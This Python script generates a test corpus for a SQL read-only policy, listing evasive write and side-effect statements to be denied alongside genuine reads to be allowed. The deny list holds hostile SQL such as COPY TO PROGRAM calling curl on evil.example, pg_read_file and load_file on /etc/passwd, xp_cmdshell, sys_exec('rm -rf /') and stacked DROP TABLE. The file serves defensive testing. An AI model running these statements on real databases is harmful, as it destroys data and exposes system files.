#!/usr/bin/env python3
"""Writes cases.yaml of the sql-read-only pack from the two lists below: statements that
change something (data, schema, rights, sessions, files, other servers), each hidden in a way
an attacker would try, and genuine reads that must stay reads. Run it after editing the lists;
`cargo test -p warden-policy --test sql_corpus` checks the classifier on the same file and
`warden policy test policies/` runs the cases through the policy; `--check` fails when
cases.yaml is not what the lists give (ci/test runs it)."""
import json, pathlib, sys

# (dialect, statement): each must be denied to an agent allowed only to read.
CHANGES = [
    # PostgreSQL: writes nested in reads
    ("postgresql", "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d"),
    ("postgresql", "WITH u AS (UPDATE accounts SET balance = 0 WHERE id = 1 RETURNING id) SELECT * FROM u"),
    ("postgresql", "WITH i AS (INSERT INTO audit_log (msg) VALUES ('x') RETURNING id) SELECT id FROM i"),
    ("postgresql", "WITH a AS (SELECT 1), d AS (DELETE FROM sessions WHERE true RETURNING 1) SELECT * FROM a"),
    ("postgresql", "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d) s"),
    ("postgresql", "SELECT * FROM t WHERE x = (SELECT max(id) FROM (UPDATE t SET y = 1 RETURNING id) u)"),
    ("postgresql", "EXPLAIN ANALYZE DELETE FROM orders"),
    ("postgresql", "EXPLAIN (ANALYZE) UPDATE users SET admin = true"),
    ("postgresql", "EXPLAIN ANALYZE INSERT INTO t SELECT * FROM u"),
    ("postgresql", "explain analyze verbose delete from orders where id > 0"),
    ("postgresql", "SELECT * INTO backup_users FROM users"),
    ("postgresql", "SELECT id, email INTO TEMP leaked FROM users"),
    ("postgresql", "CREATE TEMP TABLE x AS SELECT * FROM users"),
    # PostgreSQL: functions with effects
    ("postgresql", "SELECT nextval('orders_id_seq')"),
    ("postgresql", "SELECT setval('orders_id_seq', 1)"),
    ("postgresql", "SELECT (SELECT setval('s', 1)) AS x"),
    ("postgresql", "SELECT CAST(nextval('s') AS text)"),
    ("postgresql", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity"),
    ("postgresql", "SELECT pg_cancel_backend(1234)"),
    ("postgresql", "SELECT pg_reload_conf()"),
    ("postgresql", "SELECT pg_read_file('/etc/passwd')"),
    ("postgresql", "SELECT pg_catalog.pg_read_file('postgresql.conf')"),
    ("postgresql", "SELECT \"pg_read_file\"('/etc/passwd')"),
    ("postgresql", "SELECT upper(pg_read_file('x'))"),
    ("postgresql", "SELECT pg_ls_dir('.')"),
    ("postgresql", "SELECT lo_import('/etc/passwd')"),
    ("postgresql", "SELECT lo_export(12345, '/tmp/x')"),
    ("postgresql", "SELECT lo_unlink(12345)"),
    ("postgresql", "SELECT * FROM users WHERE id IN (SELECT lo_unlink(1))"),
    ("postgresql", "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(x int)"),
    ("postgresql", "SELECT dblink_exec('host=x', 'DROP TABLE t')"),
    ("postgresql", "SELECT 1 UNION SELECT dblink_exec('x', 'y')"),
    ("postgresql", "SELECT set_config('role', 'admin', false)"),
    ("postgresql", "SELECT query_to_xml('DELETE FROM users RETURNING *', true, true, '')"),
    ("postgresql", "SELECT pg_sleep(100)"),
    ("postgresql", "SELECT CASE WHEN true THEN pg_sleep(10) END"),
    ("postgresql", "SELECT count(*) FROM users WHERE pg_sleep(1) IS NOT NULL"),
    ("postgresql", "SELECT pg_advisory_lock(1)"),
    ("postgresql", "SELECT txid_current()"),
    ("postgresql", "SELECT my_schema.cleanup_users()"),
    ("postgresql", "SELECT public.lower(name) FROM users"),
    ("postgresql", "SELECT * FROM generate_series(1, 10) g, LATERAL (SELECT nextval('s')) n"),
    ("postgresql", "SELECT 1 UNION ALL SELECT pg_terminate_backend(1)"),
    # PostgreSQL: locks, sessions, procedures
    ("postgresql", "SELECT * FROM users FOR UPDATE"),
    ("postgresql", "SELECT * FROM users WHERE id = 1 FOR SHARE"),
    ("postgresql", "SELECT * FROM accounts FOR UPDATE SKIP LOCKED"),
    ("postgresql", "LOCK TABLE users IN ACCESS EXCLUSIVE MODE"),
    ("postgresql", "VACUUM FULL users"),
    ("postgresql", "SET ROLE postgres"),
    ("postgresql", "SET search_path TO evil, public"),
    ("postgresql", "RESET ALL"),
    ("postgresql", "PREPARE p AS DELETE FROM users; EXECUTE p"),
    ("postgresql", "DO $$ BEGIN DELETE FROM users; END $$"),
    ("postgresql", "COPY users TO PROGRAM 'curl https://evil.example'"),
    ("postgresql", "COPY (SELECT * FROM users) TO '/tmp/users.csv'"),
    ("postgresql", "CALL purge_everything()"),
    ("postgresql", "NOTIFY channel, 'x'"),
    ("postgresql", "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE"),
    ("postgresql", "INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING"),
    ("postgresql", "UPDATE t SET a = 1 WHERE id = 2"),
    ("postgresql", "TABLE users; DELETE FROM users"),
    ("postgresql", "VALUES (1); DROP TABLE users"),
    # PostgreSQL: quoting and comments
    ("postgresql", "SELECT $$DROP$$; TRUNCATE users"),
    ("postgresql", "SELECT $tag$ ; $tag$ ; DROP TABLE users"),
    ("postgresql", "SELECT E'\\'' ; DROP TABLE users; -- '"),
    ("postgresql", "SELECT '\\' ; DROP TABLE users; -- '"),
    ("postgresql", "SELECT 1 /* /* */ ; DROP TABLE users; /* */ */"),
    ("postgresql", "SELECT 1 /* outer /* inner */ still comment */ ; DELETE FROM users"),
    # MySQL
    ("mysql", "SELECT 1 /*! ; DROP TABLE users */"),
    ("mysql", "SELECT /*!50000 1; DELETE FROM users */"),
    ("mysql", "SELECT 1 /*!32302 , (SELECT sleep(5)) */"),
    ("mysql", "SELECT * FROM users INTO OUTFILE '/tmp/users.txt'"),
    ("mysql", "SELECT * FROM users INTO DUMPFILE '/tmp/users.bin'"),
    ("mysql", "SELECT load_file('/etc/passwd')"),
    ("mysql", "SELECT sleep(10)"),
    ("mysql", "SELECT benchmark(1000000, md5('x'))"),
    ("mysql", "SELECT get_lock('x', 10)"),
    ("mysql", "SELECT sys_exec('rm -rf /')"),
    ("mysql", "REPLACE INTO users (id, name) VALUES (1, 'x')"),
    ("mysql", "SELECT 1 # comment\n; DROP TABLE users"),
    ("mysql", "SELECT 'a\\'; DROP TABLE users; -- '"),
    ("mysql", "LOAD DATA INFILE '/tmp/x' INTO TABLE users"),
    ("mysql", "HANDLER users OPEN"),
    ("mysql", "SELECT `name` FROM `users`; DELETE FROM `users`"),
    ("mysql", "INSERT INTO users SET name = 'x'"),
    ("mysql", "UPDATE users u JOIN orders o ON o.uid = u.id SET u.vip = 1"),
    ("mysql", "DELETE u FROM users u JOIN bans b ON b.uid = u.id"),
    ("mysql", "SELECT * FROM users LOCK IN SHARE MODE"),
    ("mysql", "SET GLOBAL general_log = 'ON'"),
    ("mysql", "FLUSH PRIVILEGES"),
    ("mysql", "CREATE TABLE t2 SELECT * FROM users"),
    ("mysql", "SELECT * FROM users; RENAME TABLE users TO old_users"),
    # SQLite
    ("sqlite", "ATTACH DATABASE '/tmp/evil.db' AS evil"),
    ("sqlite", "SELECT load_extension('/tmp/evil.so')"),
    ("sqlite", "PRAGMA writable_schema = 1"),
    ("sqlite", "SELECT writefile('/tmp/x', 'data')"),
    ("sqlite", "VACUUM INTO '/tmp/copy.db'"),
    ("sqlite", "INSERT OR REPLACE INTO users (id) VALUES (1)"),
    ("sqlite", "WITH x AS (SELECT 1) DELETE FROM users"),
    ("sqlite", "SELECT * FROM users; DETACH DATABASE main"),
    ("sqlite", "SELECT fts3_tokenizer('simple', x'00')"),
    ("sqlite", "REINDEX users"),
    ("sqlite", "SELECT 1; UPDATE users SET role = 'admin' WHERE id = 1"),
    # SQL Server
    ("sqlserver", "EXEC xp_cmdshell 'whoami'"),
    ("sqlserver", "EXEC('DROP TABLE users')"),
    ("sqlserver", "SELECT * INTO #tmp FROM users"),
    ("sqlserver", "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;', 'SELECT 1')"),
    ("sqlserver", "SELECT * FROM OPENQUERY(linked, 'DELETE FROM t')"),
    ("sqlserver", "DECLARE @s nvarchar(100) = 'DROP TABLE users'; EXEC sp_executesql @s"),
    ("sqlserver", "SELECT TOP 1 * FROM [users]; DROP TABLE [users]"),
    ("sqlserver", "WAITFOR DELAY '00:00:10'"),
    ("sqlserver", "BULK INSERT users FROM 'c:\\x.csv'"),
    ("sqlserver", "SHUTDOWN WITH NOWAIT"),
    ("sqlserver", "UPDATE TOP (10) users SET x = 1"),
    ("sqlserver", "DELETE TOP (5) FROM users"),
    ("sqlserver", "MERGE users AS t USING src AS s ON t.id = s.id WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id);"),
    ("sqlserver", "SELECT name FROM users; EXECUTE AS USER = 'dbo'"),
    ("sqlserver", "SELECT * FROM users /* ; */ ; TRUNCATE TABLE users"),
    ("sqlserver", "SELECT 1; DBCC CHECKDB"),
    # SQL Server runs statements without `;` between them
    ("sqlserver", "SELECT 1 SHUTDOWN"),
    ("sqlserver", "SELECT name FROM users EXEC xp_cmdshell 'dir'"),
    ("sqlserver", "SELECT 1 WAITFOR DELAY '0:0:5'"),
    ("sqlserver", "SELECT name FROM users DROP TABLE users"),
    # any dialect: multiple statements, case, comments as whitespace
    ("generic", "SELECT 1; DROP TABLE users"),
    ("generic", "SeLeCt 1; dRoP tAbLe users"),
    ("generic", "SELECT 1;DROP/**/TABLE/**/users"),
    ("generic", "SELECT 1 /* comment */ ; DELETE FROM users"),
    ("generic", "select * from users; -- comment\n drop table users"),
    ("generic", "SELECT 1 -- \n; DELETE FROM t"),
    ("generic", "SELECT \"a\" FROM t;DELETE FROM t WHERE 1=1"),
    ("generic", "SELECT '' ; ALTER TABLE users ADD COLUMN x int"),
    ("generic", "SELECT 1; GRANT SELECT ON t TO public"),
    ("generic", "SELECT * FROM users; GRANT ALL ON users TO public"),
    ("generic", "REVOKE SELECT ON users FROM analyst"),
    ("generic", "COMMIT; DROP TABLE users"),
    ("generic", "BEGIN; DELETE FROM users WHERE id > 0; COMMIT"),
    ("generic", "SELECT 1 AS \"x; DROP TABLE users\" ; DELETE FROM users WHERE id = 1"),
    ("generic", "SELECT * FROM users WHERE name = 'O''Brien'; DROP TABLE users"),
    ("generic", "WITH RECURSIVE r AS (SELECT 1 UNION SELECT 1) SELECT * FROM r; UPDATE t SET x = 1"),
    ("generic", "SELECT * FROM users WHERE id = 1 UNION SELECT * FROM users; TRUNCATE users"),
    ("generic", "SELECT 1 FROM dual; CREATE USER evil IDENTIFIED BY 'x'"),
]

# (dialect, statement): genuine reads that must stay reads.
READS = [
    ("postgresql", "SELECT * FROM users WHERE id = 1"),
    ("postgresql", "SELECT u.name, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 100"),
    ("postgresql", "SELECT status, count(*) FROM orders GROUP BY status HAVING count(*) > 10"),
    ("postgresql", "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '7 days') SELECT count(*) FROM recent"),
    ("postgresql", "WITH RECURSIVE tree AS (SELECT id, parent_id FROM categories WHERE parent_id IS NULL UNION ALL SELECT c.id, c.parent_id FROM categories c JOIN tree t ON c.parent_id = t.id) SELECT * FROM tree"),
    ("postgresql", "SELECT * FROM users WHERE note = 'please DROP TABLE users; DELETE everything'"),
    ("postgresql", "SELECT 'INSERT INTO x' AS example"),
    ("postgresql", "SELECT * FROM users -- DELETE FROM users"),
    ("postgresql", "SELECT * FROM users /* UPDATE users SET admin = true */"),
    ("postgresql", "SELECT \"delete\", \"update\" FROM \"audit\""),
    ("postgresql", "SELECT name FROM users WHERE name LIKE '%drop%'"),
    ("postgresql", "SELECT $$DELETE FROM users$$ AS literal"),
    ("postgresql", "SELECT lower(email), upper(name), length(bio) FROM users"),
    ("postgresql", "SELECT date_trunc('day', created_at), count(*) FROM orders GROUP BY 1"),
    ("postgresql", "SELECT to_char(created_at, 'YYYY-MM'), sum(total) FROM orders GROUP BY 1"),
    ("postgresql", "SELECT coalesce(nickname, name) FROM users"),
    ("postgresql", "SELECT row_number() OVER (PARTITION BY user_id ORDER BY created_at) FROM orders"),
    ("postgresql", "SELECT json_build_object('id', id) FROM users"),
    ("postgresql", "SELECT string_agg(name, ',') FROM users"),
    ("postgresql", "SELECT * FROM users ORDER BY created_at DESC LIMIT 10 OFFSET 20"),
    ("postgresql", "SELECT DISTINCT status FROM orders"),
    ("postgresql", "SELECT * FROM orders WHERE id IN (SELECT order_id FROM refunds)"),
    ("postgresql", "SELECT EXISTS (SELECT 1 FROM users WHERE email = 'a@b.c')"),
    ("postgresql", "SELECT * FROM users u WHERE NOT EXISTS (SELECT 1 FROM bans b WHERE b.user_id = u.id)"),
    ("postgresql", "SELECT id FROM a UNION SELECT id FROM b"),
    ("postgresql", "SELECT id FROM a INTERSECT SELECT id FROM b"),
    ("postgresql", "SELECT CASE WHEN total > 100 THEN 'big' ELSE 'small' END FROM orders"),
    ("postgresql", "SELECT CAST(total AS integer) FROM orders"),
    ("postgresql", "SELECT EXTRACT(YEAR FROM created_at) FROM orders"),
    ("postgresql", "EXPLAIN SELECT * FROM users"),
    ("postgresql", "SELECT * FROM users WHERE created_at BETWEEN '2024-01-01' AND '2024-12-31'"),
    ("postgresql", "SELECT u.* FROM public.users u"),
    ("postgresql", "SELECT count(DISTINCT user_id) FILTER (WHERE total > 0) FROM orders"),
    ("postgresql", "SELECT avg(total)::numeric(10,2) FROM orders"),
    ("postgresql", "SELECT split_part(email, '@', 2) AS domain, count(*) FROM users GROUP BY 1"),
    ("postgresql", "SELECT updated_at, created_at, deleted_at FROM users"),
    ("postgresql", "SELECT * FROM users WHERE status = 'INSERT' OR status = 'UPDATE'"),
    ("postgresql", "SELECT * FROM orders o LEFT JOIN users u ON u.id = o.user_id WHERE u.id IS NULL"),
    ("postgresql", "SELECT round(avg(total), 2) FROM orders"),
    ("postgresql", "SELECT pg_catalog.lower(name) FROM users"),
    ("mysql", "SELECT `name`, `email` FROM `users` WHERE `id` = 1"),
    ("mysql", "SELECT ifnull(nickname, name) FROM users"),
    ("mysql", "SELECT date_format(created_at, '%Y-%m') FROM orders"),
    ("mysql", "SELECT * FROM users LIMIT 5, 10"),
    ("mysql", "SELECT concat_ws('-', first_name, last_name) FROM users"),
    ("mysql", "SELECT if(total > 100, 'big', 'small') FROM orders"),
    ("mysql", "SELECT * FROM users WHERE name = 'it\\'s'"),
    ("mysql", "SELECT greatest(a, b), least(a, b) FROM t"),
    ("sqlite", "SELECT strftime('%Y', created_at) FROM orders"),
    ("sqlite", "SELECT typeof(total), ifnull(note, '') FROM orders"),
    ("sqlite", "SELECT * FROM users WHERE rowid = 1"),
    ("sqlite", "SELECT json_extract(data, '$.name') FROM events"),
    ("sqlite", "SELECT iif(total > 0, 'paid', 'free') FROM orders"),
    ("sqlserver", "SELECT TOP 10 * FROM [orders] ORDER BY [created_at] DESC"),
    ("sqlserver", "SELECT isnull(nickname, name) FROM dbo.users"),
    ("sqlserver", "SELECT datepart(year, created_at) FROM orders"),
    ("sqlserver", "SELECT len(name), getdate() FROM users"),
    ("sqlserver", "SELECT * FROM orders ORDER BY id OFFSET 10 ROWS FETCH NEXT 5 ROWS ONLY"),
    ("sqlserver", "SELECT dateadd(day, 1, created_at) FROM orders"),
    ("generic", "SELECT 1"),
    ("generic", "SELECT now()"),
]

def case(name, query, effect, rules):
    return {"name": name, "request": {"method": "POST", "path": "/sql", "json": {"query": query}},
            "identity": {"subject": "alice", "actors": [{"subject": "agent:analyst", "kind": "agent"}]},
            "expect": {"effect": effect, **({"rules": rules} if rules is not None else {})}}

def main():
    cases = []
    for i, (dialect, sql) in enumerate(CHANGES, 1):
        cases.append(case(f"change {i:03} ({dialect}) is denied to a read-only agent", sql, "deny", None))
    for i, (dialect, sql) in enumerate(READS, 1):
        cases.append(case(f"read {i:03} ({dialect}) stays a read", sql, "allow", ["sql-for-known-callers"]))
    header = ("# Generated by corpus.py from its two lists: do not edit by hand.\n"
              f"# {len(CHANGES)} statements that change something, {len(READS)} genuine reads.\n")
    body = "\n".join("  - " + json.dumps(c, ensure_ascii=False) for c in cases)
    out = pathlib.Path(__file__).with_name("cases.yaml")
    text = header + "default: deny\ncases:\n" + body + "\n"
    if "--check" in sys.argv:
        if out.read_text() != text:
            sys.exit(f"{out} is not what corpus.py writes: run python3 {__file__}")
        print(f"{out}: up to date ({len(CHANGES)} changes, {len(READS)} reads)")
        return
    out.write_text(text)
    print(f"{out}: {len(CHANGES)} changes, {len(READS)} reads")

if __name__ == "__main__":
    main()
